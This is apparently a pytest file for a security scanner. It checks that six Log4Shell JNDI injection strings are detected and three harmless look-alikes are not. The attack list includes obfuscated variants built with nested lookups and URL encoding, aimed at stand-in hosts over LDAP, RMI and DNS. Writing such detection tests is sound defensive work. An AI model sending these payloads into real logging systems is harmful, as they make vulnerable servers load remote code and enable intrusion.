from __future__ import annotations

import pytest

ATTACKS = [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "${jNdI:dns://x.example}",
]
BENIGN = ["${HOME}", "costs $5", "jndi is a Java API"]


@pytest.mark.parametrize("value", ATTACKS)
def test_detects_log4shell(scan, value):
    assert "log4shell" in scan(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ignores_benign_look_alikes(scan, value):
    assert "log4shell" not in scan(value)
